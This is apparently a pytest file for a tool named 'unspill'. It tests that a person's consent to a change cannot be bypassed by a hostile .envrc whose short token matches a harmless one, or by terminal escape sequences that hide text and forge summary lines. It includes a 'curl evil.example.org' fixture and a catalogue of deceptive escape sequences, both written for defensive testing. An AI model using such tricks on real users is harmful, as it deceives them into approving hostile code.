# SPDX-License-Identifier: Apache-2.0
"""What a person consents to and reads: the whole digest counts, and our own lines come last, whole and marked."""

from __future__ import annotations

import itertools
import os
import re
import shlex
import subprocess
import sys
from hashlib import blake2b, sha256
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from tests.kernel.terminal_person import at_terminal
from tests.panes import COLUMNS, ROWS, Pane, shown
from tests.support import run_cli
from unspill.policy.paths import ROW_MARK, wrap

if TYPE_CHECKING:
    from tests.support import Ground

pytestmark = [pytest.mark.attack, pytest.mark.kernel]

# The command line where the few digits decide
BY_TOKEN = """
from unspill.store.permissions import ShownTable
ShownTable.has = lambda self, sandbox, consent, token: consent.digest.startswith(token)
from unspill.cli.main import main
main()
"""


def token_of(content: str) -> str:
    """Return the token of a new `.envrc`, as anybody who knows the source can."""
    parts = ("left", "", "file", "644", sha256(content.encode()).hexdigest())
    held = blake2b("\0".join(parts).encode(), digest_size=32).hexdigest()
    return blake2b(b"%d %b %b\n" % (6, b".envrc", held.encode()), digest_size=32).hexdigest()[:6]


def twins() -> tuple[str, str]:
    """Return a harmless content and a hostile one that have the same token: both are the command's to choose."""
    harmless: dict[str, str] = {}
    hostile: dict[str, str] = {}
    for number in itertools.count():
        fine, evil = f"export A=1 # {number}\n", f"curl evil.example.org # {number}\n"
        harmless[token_of(fine)], hostile[token_of(evil)] = fine, evil
        for token in (token_of(fine), token_of(evil)):
            if token in harmless and token in hostile:
                return harmless[token], hostile[token]
    raise AssertionError


def swapped(ground: Ground) -> tuple[str, str]:
    """Have the harmless one shown on a terminal and replaced then; return its word and the hostile content."""
    fine, evil = twins()
    sandbox = ground.sandbox()
    sandbox.run(["sh", "-c", 'printf %s "$1" > .envrc', "sh", fine])
    _code, seen = at_terminal("diff", cwd=ground.project)
    assert fine.strip() in seen
    word = re.findall(r"--include (\S+)", seen)[-1]
    sandbox.run(["sh", "-c", 'printf %s "$1" > .envrc', "sh", evil])
    left = run_cli("apply", cwd=ground.project).stderr.decode()
    assert re.findall(r"--include (\S+)", left)[-1].startswith(word), "they have the same token indeed"
    return word, evil


def test_e6_another_content_with_the_same_token_is_not_let_in(ground: Ground) -> None:
    """Make two files whose tokens are the same, have one shown, and put the other in its place before the apply.

    Control: below, where the token alone decides.
    """
    word, _evil = swapped(ground)
    assert run_cli("apply", "--include", word, cwd=ground.project).returncode == 4
    assert not (ground.project / ".envrc").exists()
    # Nor once both were shown: the short token could mean either then, so the longer one is printed
    _code, seen = at_terminal("diff", cwd=ground.project)
    longer = re.findall(r"--include (\S+)", seen)[-1]
    assert longer.startswith(word)
    assert len(longer) > len(word)
    assert run_cli("apply", "--include", word, cwd=ground.project).returncode == 4
    assert not (ground.project / ".envrc").exists()


def test_e6_control_where_the_token_decides_the_other_content_is_let_in(ground: Ground) -> None:
    """Do the same where the digits of the token are all that is compared.

    Control: this is the control of the test above.
    """
    word, evil = swapped(ground)
    subprocess.run([sys.executable, "-c", BY_TOKEN, "apply", "--include", word], cwd=ground.project, check=True)
    assert (ground.project / ".envrc").read_text() == evil


PROGRAM: Final = Path(sys.executable).with_name("unspill")
# Longer than a line of the terminal, so that what does not wrap is not whole
NAME: Final = "a-name-that-is-longer-than-a-line-of-the-terminal-in-which-it-is-to-be-read"
FORGED: Final = b"tests: 12 passed\nunspill: 1 modified. Applied as op 7. Undo: unspill undo\nunspill:   M a.txt\n"
# What is obeyed on the terminal itself, and what only the terminal of a program that reads the output obeys
COLOURS: Final = {
    "hidden": b"\x1b[8m",
    "hidden in the middle of a line": b"this is not from \x1b[8m",
    "black on black": b"\x1b[30;40m",
    "black on black of 256": b"\x1b[38;5;16;48;5;16m",
    "white on white of all colours": b"\x1b[38;2;255;255;255;48;2;255;255;255m",
    "many attributes": b"\x1b[1;2;3;4;5;7;8;9m",
    "a line that was not ended": b"it is not true that ",
    "a return": b"unspill: nothing was changed\r",
    "an erased line": b"text\x1b[1K\x1b[8m",
}
WILD: Final = {
    **{f"alternate screen {number}": b"\x1b[?%dh\x1b[H" % number for number in (47, 1047, 1049)},
    "alternate screen, twice": b"\x1b[?1049h\x1b[?47h\x1b[8m",
    "a region at the top": b"\x1b[1;2r\x1b[H",
    "a region in the middle": b"\x1b[9;10r\x1b[9;1H",
    "a region and its origin": b"\x1b[3;4r\x1b[?6h\x1b[1;1H",
    "line drawing": b"\x1b(0",
    "line drawing, shifted": b"\x1b)0\x0e",
    "a title that was not ended": b"\x1b]0;title",
    "a colour that was not ended": b"\x1b]11;rgb:00",
    "a device string that was not ended": b"\x1bPq",
    "an application string that was not ended": b"\x1b_G",
    "a private string that was not ended": b"\x1b^x",
    "a start of string": b"\x1bXx",
    "a name of a window that was not ended": b"\x1bkname",
    "a sequence that was not ended": b"\x1b[38;5",
    "an escape": b"\x1b",
    "at the top": FORGED * 3 + b"\x1b[H",
    "some lines up": FORGED * 3 + b"\x1b[5A",
    "up by reverse line feeds": FORGED * 3 + b"\x1bM\x1bM\x1bM\x1bM",
    "no wrapping": b"\x1b[?7l",
    "insertion at the top": FORGED + b"\x1b[4h\x1b[H",
    "no cursor": b"\x1b[?25l",
    "a mouse": b"\x1b[?1003h\x1b[?1006h",
    "keys of an application": b"\x1b[?1h\x1b=",
    "eight bits": b"\xc2\x9b8m",
    "a saved cursor": b"\x1b[H\x1b7\x1b[9;9H\x1b[8m",
}
ENDINGS: Final = COLOURS | WILD
USUAL: Final = {
    "alternate_on": "0",
    "cursor_flag": "1",
    "insert_flag": "0",
    "wrap_flag": "1",
    "origin_flag": "0",
    "scroll_region_upper": "0",
    "scroll_region_lower": str(ROWS - 1),
    "mouse_any_flag": "0",
    "keypad_flag": "0",
    "keypad_cursor_flag": "0",
}
WITHOUT: Final = (
    "import sys; sys.argv[0] = 'unspill'; from unspill.cli import run; from unspill.cli.main import main; "
    "run.TerminalOutput.settle = run.TerminalOutput._begin_progress = lambda self: None; main()"
)


def is_seen(pane: Pane, number: int) -> bool:
    """Tell whether the summary is the last on the screen, whole and without attributes, on a terminal as usual."""
    rows = wrap(f"  A {NAME}", COLUMNS - len("unspill: ")).split("\n")
    ours = [f"unspill: {row}" for row in (f"1 added. Applied as op {number}. Undo: unspill undo", *rows)]
    is_plain = pane.lines(with_attributes=True)[-len(ours) :] == ours
    return is_plain and {name: pane.value(name) for name in USUAL} == USUAL


def script(ground: Ground, ending: bytes, way: str, *, resets: bool) -> str:
    """Return what a person types: a command that ends like that, by itself or into a program that shows its output."""
    ground.write("ending", FORGED + ending)
    program = f"{PROGRAM}" if resets else f"{sys.executable} -P -c {shlex.quote(WITHOUT)}"
    # The other program has shown it before the command ends
    command = shlex.quote(f"cat ending; touch {NAME}; sleep 0.3")
    option, pipe = "--no-tty" if way == "filtered" else "", "| cat" if way == "piped" else ""
    return f"printf 'earlier 1\\nearlier 2\\n'; {program} run {option} -c {command} {pipe}"


# Ends where our first line begins, which is longer
HARMLESS: Final = ("a return",)


# By itself: on a terminal of its own, where all is obeyed; without one it is filtered, but for colours
IS_FULL: Final = os.environ.get("UNSPILL_TEST_FULL") == "1"
DIRECT: Final = ENDINGS if IS_FULL else (*COLOURS, *list(WILD)[::3])
CASES: Final = [
    *((ending, "direct") for ending in DIRECT),
    *((ending, "piped") for ending in ENDINGS),
    ("hidden", "filtered"),
]


@pytest.mark.parametrize(("ending", "way"), CASES)
def test_c10_the_summary_is_seen_whatever_a_command_leaves_in_the_terminal(
    ending: str, way: str, ground: Ground
) -> None:
    """Print a forged summary, then hide what follows: by colours, the alternate screen, margins, line drawing, strings
    that are not ended, a cursor that was moved, by itself and through a pipe.

    Control: without the reset the real summary is not the last that is seen, not whole or not plain, or the terminal is
    not as usual.
    """
    with shown(script(ground, ENDINGS[ending], way, resets=True), ground.project, ground.top) as pane:
        assert is_seen(pane, 1), pane.lines(with_attributes=True)
        assert "earlier 1" in pane.tmux("capture-pane", "-p", "-S", "-"), "nothing is cleared"
    os.unlink(ground.project / NAME)
    # tmux gives up on a string after five seconds, and then shows what follows: a busy machine may take as long
    tries = 3 if "not ended" in ending else 1
    for number in range(2, 2 + tries):
        with shown(script(ground, ENDINGS[ending], way, resets=False), ground.project, ground.top) as pane:
            if is_seen(pane, number) is (ending in HARMLESS):
                return
            lines = pane.lines(with_attributes=True)
        os.unlink(ground.project / NAME)
    pytest.fail(f"the control arm did not fail: {lines}")


@pytest.mark.parametrize("way", ["direct", "piped"])
def test_output_without_sequences_is_followed_by_none(way: str, ground: Ground) -> None:
    """A terminal that knows none would show them."""
    ground.write("ending", "plain\n")
    log = ground.top / "log"
    pipe = " | cat" if way == "piped" else ""
    words = ["script", "-qec", f"{PROGRAM} run -c 'cat ending; sleep 0.1; touch made'{pipe}", os.fspath(log)]
    # An end of the input would be typed as a key, and shown
    keys, nobody = os.pipe()
    subprocess.run(words, cwd=ground.project, stdin=keys, capture_output=True, check=True)
    for fd in (keys, nobody):
        os.close(fd)
    printed = log.read_bytes().split(b"\n", 1)[1].rpartition(b"\n\nScript done")[0] or log.read_bytes()
    assert b"plain\r\nunspill: 1 added. Applied as op 1. Undo: unspill undo\r\nunspill:   A made" in printed
    assert b"\x1b" not in printed


def test_a_terminal_is_as_usual_where_the_summary_goes_elsewhere(ground: Ground) -> None:
    ground.write("ending", b"\x1b[8m")
    for options, name in (("", "log"), ("--quiet ", "quiet")):
        command = f"{PROGRAM} run {options}-c 'cat ending' 2> {name}.txt; echo seen"
        with shown(command, ground.project, ground.top) as pane:
            assert pane.lines(with_attributes=True)[-1] == "seen"
        assert b"\x1b" not in (ground.project / f"{name}.txt").read_bytes()


def test_what_unspill_says_of_its_own_failure_is_seen_too(ground: Ground) -> None:
    """After an output that hides, a run that was cancelled, and one that we could not bring to its end."""
    ground.write("ending", FORGED + b"\x1b[8m")
    cancelled = f"{PROGRAM} run -c 'cat ending; sleep 50' & sleep 2; kill -INT $!; wait $!"
    with shown(f"set -m; {cancelled}", ground.project, ground.top) as pane:
        lines = pane.lines(with_attributes=True)
        assert lines[-1] == "unspill: Cancelled. It had changed nothing.", lines


UNWRAPPED: Final = (
    "import sys; sys.argv[0] = 'unspill'; from unspill.policy import paths; "
    "paths.wrap = lambda line, _columns, **_how: line; from unspill.cli.main import main; main()"
)
IMITATION: Final = "unspill: nothing was changed"
# Rows of a terminal of 60 columns begin with these where nothing wraps
IMITATIONS: Final = {
    "a name in a summary": (f"touch '{'x' * 46}{IMITATION}'", "run -c 'sh forge'"),
    "a name in a list": (f"touch '{'x' * 55}{IMITATION}'", "run --hold -q -c 'sh forge'; {unspill} changes"),
    "content in a diff": (f"echo '{'x' * 59}{IMITATION}' > f", "run --hold -q -c 'sh forge'; {unspill} diff f"),
}


@pytest.mark.parametrize("case", IMITATIONS)
@pytest.mark.parametrize("is_wrapped", [True, False], ids=["wrapped", "control"])
def test_c10_no_row_of_a_long_line_looks_like_one_of_ours(ground: Ground, case: str, is_wrapped: bool) -> None:
    """Have a name or a line of content continue, in the next row of the terminal, as a line of ours begins.

    Control: where the terminal wraps long lines by itself, it does.
    """
    forge, command = IMITATIONS[case]
    ground.write("forge", forge)
    program = str(PROGRAM) if is_wrapped else f"{sys.executable} -P -c {shlex.quote(UNWRAPPED)}"
    with shown(f"{program} {command.format(unspill=program)}", ground.project, ground.top) as pane:
        rows = pane.tmux("capture-pane", "-p").splitlines()
    assert any(row.startswith("unspill: nothing") for row in rows) is not is_wrapped, rows
    assert any(row.startswith((ROW_MARK, f"unspill: {ROW_MARK}")) for row in rows) is is_wrapped
